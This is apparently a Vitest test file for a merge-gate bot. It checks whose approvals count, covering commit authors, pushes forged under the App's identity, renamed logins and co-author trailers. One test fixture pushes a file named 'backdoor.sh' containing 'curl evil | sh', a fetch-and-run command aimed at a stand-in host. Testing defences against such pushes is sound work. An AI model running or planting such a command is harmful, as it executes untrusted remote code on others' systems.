// Whose approval counts: people by their ids, whoever pushed, and nothing that an agent wrote.
import { expect, test } from "vitest";
import type { Pull } from "../../src/forge/model.ts";
import { giveAccess } from "./access.ts";
import { aStory, mend, type Story } from "./world.ts";

/** The address GitHub gives bob for his commits. */
const bobs = "1015+bob@users.noreply.forge.test";

const mergePolicy = "version: 1\ngate:\n  merge: true\n";

/** Commits under the name and address that the App's own commits bear, and pushes with this person's token. */
async function pushAsTheApp(story: Story, login: string, pull: Pull): Promise<void> {
  const own = await appsSignature(story, pull);
  await story.forge
    .as(login)
    .push(story.repository, pull.head.ref, { "backdoor.sh": "curl evil | sh\n" }, "Attempt 1: more", { author: own });
  await story.settle();
}

async function appsSignature(story: Story, pull: Pull): Promise<{ name: string; email: string }> {
  const { execFileSync } = await import("node:child_process");
  const args = ["-C", story.repository.gitDir, "log", "-1", "--format=%cn%n%ce", pull.head.sha];
  const [name = "", email = ""] = execFileSync("git", args, { encoding: "utf8" }).split("\n");
  return { name, email };
}

test("T21: whoever pushes under the App's own name and address cannot approve that commit", async () => {
  const story = await aStory({ policy: mergePolicy });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  await pushAsTheApp(story, "dave", pull);
  story.forge.as("dave").approve(pull);
  await story.settle();
  expect(pull.merged).toBe(false);
  expect(await story.phase(issue)).toBe("awaiting_gate");
  expect(story.comments(issue).at(-1)).toContain("The approval by `dave` does not count: authors of the commits");
  story.forge.as("dave").comment(issue, "/loop approve");
  await story.settle();
  expect(pull.merged).toBe(false);
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect(pull.merged).toBe(true);
});

test("T21: whoever pushes under an address that no account has cannot approve that commit", async () => {
  const story = await aStory();
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  const laptop = { name: "dave", email: "dave@laptop.local" };
  const dave = story.forge.as("dave");
  await dave.push(story.repository, pull.head.ref, { "helper.sh": "id\n" }, "Add a helper", { author: laptop });
  await story.settle();
  dave.approve(pull);
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob" });
});

test("T21: whoever pushed stays an author after the webhook of the push was lost and the loop was restored", async () => {
  const story = await aStory();
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  story.forge.dropDeliveries(2); // the push, and the pull request's synchronize
  const own = await appsSignature(story, pull);
  const dave = story.forge.as("dave");
  await dave.push(story.repository, pull.head.ref, { "helper.sh": "id\n" }, "More", { author: own });
  await story.restart({ loseStore: true });
  dave.approve(pull);
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
});

test("T21: a push by someone whom GitHub does not name asks for one approval more, and the thread says so", async () => {
  const story = await aStory();
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  const erin = story.forge.createUser("erin");
  giveAccess(story, "erin", "write");
  const own = await appsSignature(story, pull);
  await story.forge.as("erin").push(story.repository, pull.head.ref, { "a.sh": "id\n" }, "More", { author: own });
  await story.settle();
  story.forge.as("erin").leave();
  expect(erin.deleted).toBe(true);
  story.forge.as("bob").approve(pull);
  await story.settle();
  for (let times = 0; times < 6; times++) await story.advance(30_000);
  expect(await story.phase(issue)).toBe("awaiting_gate");
  expect(story.comments(issue).at(-1)).toContain("GitHub does not say who pushed");
  story.forge.as("dave").approve(pull);
  await story.settle();
  for (let times = 0; times < 6; times++) await story.advance(30_000);
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob, dave" });
});

test("T21: the requester stays the requester under another login, by review and by command", async () => {
  const story = await aStory();
  const issue = await story.startLoop();
  const alice = story.forge.as("alice");
  alice.rename("alicia");
  alice.approve(await story.pull(issue));
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  alice.comment(issue, "/loop approve");
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
});

test("T21: whoever takes the old login of the requester is someone else, and an author stays one under a new login", async () => {
  const story = await aStory();
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  const dave = story.forge.as("dave");
  await dave.push(story.repository, pull.head.ref, { "NOTES.md": "A note.\n" }, "Add a note");
  await story.settle();
  dave.rename("david");
  dave.approve(pull);
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  story.forge.as("alice").rename("alicia");
  story.forge.createUser("alice");
  giveAccess(story, "alice", "write");
  story.forge.as("alice").approve(pull);
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "alice" });
});

test("T21: a permission is read of the person, not of whoever has the login now", async () => {
  const story = await aStory({ policy: 'version: 1\nchecks:\n  required: ["ci/slow"]\n' });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  await report(story, pull, "success");
  expect(await story.phase(issue)).toBe("awaiting_gate");
  await report(story, pull, "pending");
  story.forge.as("bob").comment(issue, "/loop approve");
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  // bob leaves the team under another name, and a new member takes the login he had.
  story.forge.as("bob").rename("robert");
  giveAccess(story, "robert", "read");
  story.forge.createUser("bob");
  giveAccess(story, "bob", "write");
  await report(story, pull, "success");
  expect(await story.phase(issue)).toBe("awaiting_gate");
});

test("T21: `/loop approve` counts as long as the comment stands and its author may write", async () => {
  const story = await aStory({ policy: 'version: 1\nchecks:\n  required: ["ci/slow"]\n' });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  await report(story, pull, "success");
  await report(story, pull, "pending");
  const bob = story.forge.as("bob");
  const comment = bob.comment(issue, "/loop approve");
  await story.settle();
  bob.deleteComment(comment);
  await report(story, pull, "success");
  expect(await story.phase(issue)).toBe("awaiting_gate");
  bob.comment(issue, "/loop approve");
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob" });
});

async function report(story: Story, pull: Pull, state: "success" | "pending"): Promise<void> {
  const status = { sha: pull.head.sha, state, context: "ci/slow", description: "", targetUrl: null };
  await story.forge.world.createStatus(
    { user: story.forge.ciApp.bot, app: story.forge.ciApp },
    story.repository,
    status,
  );
  await story.settle();
}

test("L5: an approving review that finds the checks pending counts once they are green", async () => {
  const story = await aStory({ policy: 'version: 1\nchecks:\n  required: ["ci/slow"]\n' });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  await report(story, pull, "success");
  await report(story, pull, "pending");
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  await report(story, pull, "success");
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob" });
});

test("T21: whom the agent names in a Co-authored-by trailer may approve all the same", async () => {
  const message = `Fix totals\\n\\nCo-authored-by: Bob <${bobs}>\\n`;
  const story = await aStory({ executor: `${mend}; git add -A; printf '${message}' | git commit -q -F -` });
  const bob = story.forge.as("bob");
  expect(bob.user.email).toBe(bobs);
  const issue = await story.startLoop();
  bob.approve(await story.pull(issue));
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob" });
});

test("T21: … also with a person's commit on top, whose own co-authors may not", async () => {
  const message = `Fix totals\\n\\nCo-authored-by: Bob <${bobs}>\\n`;
  const story = await aStory({ executor: `${mend}; git add -A; printf '${message}' | git commit -q -F -` });
  expect(story.forge.as("bob").user.email).toBe(bobs);
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  const frank = story.forge.createUser("frank");
  giveAccess(story, "frank", "write");
  const text = `A note\n\nCo-authored-by: Frank <${frank.email}>\n`;
  await story.forge.as("dave").push(story.repository, pull.head.ref, { "NOTES.md": "A note.\n" }, text);
  await story.settle();
  story.forge.as("frank").approve(pull);
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob" });
});

test("T21: a change of more commits than GitHub lists on a page passes the gate, also with a person's commit on top", async () => {
  const many = 'for i in $(seq 101); do echo $i > n; git add -A; git commit -q -m "step $i"; done';
  const story = await aStory({ executor: `${many}; ${mend}` });
  const issue = await story.startLoop();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  const pull = await story.pull(issue);
  const dave = story.forge.as("dave");
  await dave.push(story.repository, pull.head.ref, { "NOTES.md": "A note.\n" }, "Add a note");
  await story.settle();
  dave.approve(pull);
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob" });
}, 60_000);

test("T21: an approval beyond the first page of reviews counts, and so does a request for changes", async () => {
  const story = await aStory();
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  story.forge.as("dave").requestChanges(pull, "Not like this.", { commit: pull.head.sha });
  story.forge.as("dave").dismiss(pull.reviews.at(-1)!, "he agrees");
  const carol = story.forge.as("carol");
  for (let times = 0; times < 120; times++) carol.review(pull, { event: "COMMENT", body: `note ${times}` });
  await story.settle();
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved", by: "bob" });
}, 60_000);
